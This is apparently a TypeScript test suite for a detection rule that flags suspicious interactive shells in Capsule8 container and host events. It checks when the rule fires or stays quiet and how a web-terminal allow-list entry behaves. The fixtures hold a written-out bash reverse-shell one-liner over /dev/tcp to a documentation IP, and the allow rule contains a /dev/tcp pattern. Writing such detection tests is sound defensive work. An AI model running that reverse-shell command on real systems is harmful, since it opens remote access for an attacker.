import { cases } from "detectform/model";
import { CONTAINER_DETAIL, capsule8, HOST_DETAIL } from "../../../sources/capsule8.events.ts";

const ACTION = "Suspicious Interactive Shell";

const shell = (args: string, parent: string) => ({
  ...CONTAINER_DETAIL,
  process_info: { pid: 6600, uid: 1000, program: { path: "/bin/bash", arguments: args } },
  lineage: [
    { pid: 6600, program_path: "/bin/bash" },
    { pid: 6590, program_path: parent },
  ],
});

const REVERSE = shell("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "/usr/bin/python3");
const TERMINAL = shell("bash -i", "/usr/bin/ttyd");

const WEB_TERMINAL = {
  where: "lineage like '%/ttyd (%' and process_arguments not like '%/dev/tcp/%'",
  reason: "web terminal of the clusters",
  owner: "platform@example.test",
  until: "2026-12-31",
};

export default cases({
  "fires when a notebook's interpreter starts a reverse shell": {
    events: [capsule8(ACTION, { detail: REVERSE })],
    findings: 1,
    rows: [
      {
        origin: "container",
        process_arguments: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        lineage: "/usr/bin/python3 (6590) > /bin/bash (6600)",
        notice: "i-0a1b2c3d4e5f60001 /bin/bash uid 1000 from spark-8841",
      },
    ],
  },
  "fires on the host": {
    events: [capsule8(ACTION, { detail: { ...REVERSE, location: HOST_DETAIL.location } })],
    findings: 1,
    rows: [{ origin: "host", notice: "i-0a1b2c3d4e5f60001 /bin/bash uid 1000" }],
  },
  "fires without any detail although the web terminal is allowed": {
    events: [capsule8(ACTION, { detail: null })],
    findings: 1,
    rows: [{ origin: "unknown", notice: "i-0a1b2c3d4e5f60001 Suspicious Interactive Shell" }],
    allow: [WEB_TERMINAL],
  },
  "fires on detail that was cut off": {
    events: [capsule8(ACTION, { detail: JSON.stringify(REVERSE).slice(0, 330) })],
    findings: 1,
    rows: [{ origin: "unknown", process_arguments: null }],
  },
  "stays quiet on the agent's heartbeat": {
    events: [capsule8("Heartbeat", { detail: null })],
    findings: 0,
  },
  "stays quiet on a plain sudo": {
    events: [capsule8("User Execution Of sudo Command", { detail: TERMINAL })],
    findings: 0,
  },
  "stays quiet on a shell command run from a notebook": {
    events: [capsule8("runCommand", { detail: null, row: { service_name: "notebook" } })],
    findings: 0,
  },
  "stays quiet on the web terminal": {
    events: [capsule8(ACTION, { detail: TERMINAL })],
    findings: 0,
    allow: [WEB_TERMINAL],
  },
  "fires on a reverse shell typed into the web terminal": {
    events: [capsule8(ACTION, { detail: shell("bash -i >& /dev/tcp/203.0.113.7/4444", "/usr/bin/ttyd") })],
    findings: 1,
    rows: [{ lineage: "/usr/bin/ttyd (6590) > /bin/bash (6600)" }],
    allow: [WEB_TERMINAL],
  },
});
